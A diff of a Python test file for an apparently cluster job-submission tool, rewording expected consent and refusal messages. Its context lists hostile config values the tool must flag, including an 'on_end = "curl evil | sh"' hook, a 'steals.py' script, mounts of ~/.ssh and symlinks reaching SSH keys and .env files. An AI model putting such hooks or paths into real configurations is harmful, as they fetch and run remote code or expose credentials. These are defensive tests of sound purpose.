@@ -92,7 +92,7 @@ WISHES = {
     "a mount": ('mounts = ["/home/me/.ssh:/x:ro"]', "mount /home/me/.ssh:/x:ro on all hosts"),
     "the home as the folder": ('folder = "~"', "folder HOME is sent to the hosts"),
     "the home behind a link": ('folder = "data"', "folder HOME is sent to the hosts"),
-    "what the folder would keep": ('include = [".env"]', "include .env is sent, even where it is a credential"),
+    "what the folder would keep": ('include = [".env"]', "include .env is sent, even if it is a credential"),
     "a folder as data": ('[[data]]\nfolder = "~/.ssh"\ntarget = "/d"', "data all of HOME/.ssh, to /d on the hosts"),
     "a link as data": ('[[data]]\nfolder = "data"\ntarget = "/d"', "data all of HOME, to /d on the hosts"),
     "its own folder as data": ('[[data]]\nfolder = "."\ntarget = "/d"', "data all of WORK, to /d on the hosts"),
@@ -101,7 +101,7 @@ WISHES = {
     "a command at the end": ('on_end = "curl evil | sh"', "on-end curl evil | sh once the run has ended"),
     "an address at the end": ('on_end = "https://evil/x"', "on-end https://evil/x once the run has ended"),
     "another's user id": ("user = 1000", "user 1000 owns the run's processes on the hosts"),
-    "a network": ("overlay = true", "overlay a network of the run's own"),
+    "a network": ("overlay = true", "overlay the run makes its own network"),
     "a script behind a link": ('script = "steals.py"', "script steals.py leads to HOME/important"),
     "requirements behind a link": ('requirements = "needs.txt"', "requirements needs.txt leads to HOME/important"),
     "all GPUs": ('environment = { NVIDIA_VISIBLE_DEVICES = "all" }', "variable NVIDIA_VISIBLE_DEVICES=all"),
@@ -246,7 +246,7 @@ def test_what_is_included_never_leads_out_of_the_folder(clone):
     clone.says('include = ["vocab/id_ed25519"]')
     refused = clone.types("push", "--allow-folder")
     assert refused.code == USAGE
-    assert f"vocab/id_ed25519 leads out of the folder, to {clone.there.home}/.ssh/id_ed25519" in refused.output
+    assert f"vocab/id_ed25519 is a link out of the folder, to {clone.there.home}/.ssh/id_ed25519" in refused.output
     assert clone.visits == 0
 
 
@@ -264,7 +264,7 @@ def test_a_person_is_asked_once_and_again_only_for_what_is_new(clone):
     assert "secret AWS_SECRET_ACCESS_KEY from this shell" in second.screen
     clone.says('secrets = ["AWS_SECRET_ACCESS_KEY"]\nmounts = ["/etc:/etc2"]')
     third = clone.person("status", answers=["y"])
-    question = third.screen.partition("asks for what is yours")[2].partition("[y/N]")[0]
+    question = third.screen.partition("asks for things that only you")[2].partition("[y/N]")[0]
     assert "mount /etc:/etc2 on all hosts" in question
     assert "AWS_SECRET" not in question, "only what is new is asked"
     kept.unlink()
@@ -400,7 +400,7 @@ def test_more_than_a_person_reads_is_not_asked_on_a_terminal(clone):
     clone.says(f"secrets = [{names}]")
     said = clone.person("status", answers=["y"])
     assert (said.code, said.questions, clone.visits) == (USAGE, 0, 0)
-    assert "more than can be read" in said.screen
+    assert "too many to read" in said.screen
 
 
 @pytest.mark.parametrize(
@@ -487,7 +487,7 @@ def test_answers_that_lie_in_the_folder_that_asks_are_not_believed_and_that_is_s
         (clone.there.folder / "config/muster/allowed").symlink_to(clone.folder / "allowed")
         (clone.folder / "allowed").mkdir(mode=0o700)
     said = clone.types("status", "--allow-folder")
-    assert "your answer holds for this command alone" in said.output
+    assert "your answer counts for this command only" in said.output
     assert clone.types("status").code == USAGE
 
 
@@ -497,7 +497,7 @@ def test_where_nothing_can_be_kept_a_person_is_asked_each_time_and_told_why(clon
     for _ in range(2):
         said = clone.person("status", answers=["y"])
         assert said.questions == 1
-        assert "your answer holds for this command alone" in said.screen
+        assert "your answer counts for this command only" in said.screen
     assert clone.visits == 2
 
 
@@ -572,7 +572,7 @@ def test_a_user_without_a_home_is_asked_each_time(clone, monkeypatch):
         monkeypatch.setenv(name, "relative")
     monkeypatch.setattr(os.path, "expanduser", lambda path: path)
     assert (
-        "your answer holds for this command alone: this user has no home" in clone.types("status", "--allow-folder").err
+        "your answer counts for this command only: this user has no home" in clone.types("status", "--allow-folder").err
     )
     assert clone.types("status").code == USAGE
     assert {path.name for path in clone.folder.iterdir()} <= {"cluster.toml", "runs", "train.py"}
@@ -593,7 +593,7 @@ def test_a_cluster_toml_that_leads_out_of_the_folder_is_not_read(clone, tmp_path
     (clone.folder / "cluster.toml").symlink_to(outside)
     refused = clone.types("status")
     assert refused.code == USAGE
-    assert f"cluster.toml leads out of this folder, to {outside}" in refused.err
+    assert f"cluster.toml is a link out of this folder, to {outside}" in refused.err
     assert "TOML" not in refused.output
 
 
